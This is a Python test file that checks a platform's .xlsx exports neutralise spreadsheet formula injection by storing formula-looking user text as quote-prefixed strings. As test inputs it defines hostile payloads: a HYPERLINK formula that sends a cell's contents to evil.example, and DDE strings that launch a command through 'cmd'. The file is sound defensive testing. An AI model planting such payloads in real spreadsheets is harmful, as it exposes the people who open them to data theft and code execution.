"""Spreadsheet (CSV/formula) injection, ASVS 5.3.10 / 1.5.x: text typed by users that a
spreadsheet program would run as a formula (=, +, -, @ …) is written to every .xlsx the
platform makes as a text cell, never as a formula.

The raw-data and summary exports of a monitoring, the jury protocol and the XLSForm export have
their own tests (``COVERED`` below names them); this file covers the others and checks that no
.xlsx route is left out.
"""

import io

import openpyxl
import pytest

from app.core.spreadsheets import FORMULA_PREFIXES
from app.extensions import db
from app.roadmap import services as roadmap_services
from tests.factories import make_org
from tests.monitoring import make_campaign, make_form
from tests.registry.factory import make_record

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
PLUS = "+7 914 000-00-00"  # a phone typed with + is text too
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+9)*cmd|' /C calc'!A0"

# .xlsx routes tested elsewhere, with the test that shows their cells are inert.
COVERED = {
    "reports.start_export": "tests/reports/test_export_cells.py::"
    "test_formula_looking_text_keeps_its_value_as_a_quote_prefixed_string; "
    "tests/reports/test_summary_export.py (HYPERLINK cells)",
    "contests.protocol_xlsx": "tests/contests/test_documents.py (FORMULA in titles and comments)",
    "questionnaires.export": "tests/questionnaires/test_xlsform.py (formula label quote-prefixed)",
    # templates: fixed column headers, no user text
    "accounts.import_users_template": "test_import_templates_hold_no_formula",
    "organizations.import_template": "test_import_templates_hold_no_formula",
    "registry.import_template": "test_import_templates_hold_no_formula",
    "roadmap.import_template": "test_import_templates_hold_no_formula",
    "campaigns.export_not_submitted": "test_not_submitted_list_writes_school_names_as_text",
    "registry.export": "test_register_export_writes_names_and_phones_as_text",
    "events.non_participants_export": "test_non_participants_export_writes_names_as_text",
    "roadmap.report": "test_roadmap_report_writes_activities_as_text",
}
# Routes whose URL does not say .xlsx but that answer with one.
EXPORTS_BY_FORMAT = ("reports.start_export", "questionnaires.export", "registry.export")


def assert_inert(data: bytes, *payloads: str) -> None:
    """No cell of the workbook is a formula; every text a spreadsheet would read as one is a
    quote-prefixed string holding exactly what was typed; every payload is in some cell."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_PREFIXES):
                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    for payload in payloads:
        assert any(payload in text for text in texts), payload


def test_every_xlsx_route_is_covered(app):
    xlsx_routes = {
        rule.endpoint for rule in app.url_map.iter_rules()
        if "xlsx" in rule.rule or rule.endpoint in EXPORTS_BY_FORMAT
    }  # fmt: skip
    assert xlsx_routes == set(COVERED)


def test_not_submitted_list_writes_school_names_as_text(world, as_user):
    schools = [make_org(payload, parent=world.district_a) for payload in (LINK, MINUS, AT)]
    campaign = make_campaign(world.admin_a, make_form(world.admin_a), schools)
    client = as_user(world.admin_a)
    reply = client.get(f"/campaigns/{campaign.id}/not-submitted.xlsx")
    assert reply.status_code == 200
    assert_inert(reply.data, LINK, MINUS, AT)


def test_register_export_writes_names_and_phones_as_text(world, as_user):
    make_record(world.school_a1, last_name=LINK, first_name=AT, phone=PLUS, email=MINUS)
    client = as_user(world.admin_a)
    reply = client.post("/registry/export", data={"reason": "Проверка выгрузки"})
    assert reply.status_code == 200
    assert_inert(reply.data, LINK, PLUS)


def test_non_participants_export_writes_names_as_text(world, as_user):
    make_record(world.school_a1, last_name=LINK, first_name=AT)
    client = as_user(world.admin_a)
    reply = client.get("/events/non-participants.xlsx")
    assert reply.status_code == 200
    assert_inert(reply.data, LINK)


def test_roadmap_report_writes_activities_as_text(world, as_user):
    roadmap = roadmap_services.create_roadmap(world.admin_a, "Дорожная карта", 2025)
    fields = {"number": 1, "title": LINK, "period": "октябрь", "responsible": MINUS,
              "document_type": AT, "expected_results": PLUS}  # fmt: skip
    roadmap_services.add_item(world.admin_a, roadmap, fields, "@Раздел")
    db.session.commit()
    client = as_user(world.admin_a)
    reply = client.get(f"/roadmap/{roadmap.id}/report.xlsx")
    assert reply.status_code == 200
    assert_inert(reply.data, LINK, "@Раздел")


@pytest.mark.parametrize(
    "url",
    [
        "/users/import/template.xlsx",
        "/organizations/import/template.xlsx",
        "/roadmap/import/template.xlsx",
    ],
)
def test_import_templates_hold_no_formula(world, as_user, url):
    reply = as_user(world.admin_a).get(url)
    assert reply.status_code == 200
    assert_inert(reply.data)


def test_the_registry_import_template_holds_no_formula(world, as_user):
    reply = as_user(world.school_user_a1).get("/registry/import/template.xlsx")
    assert reply.status_code == 200
    assert_inert(reply.data)
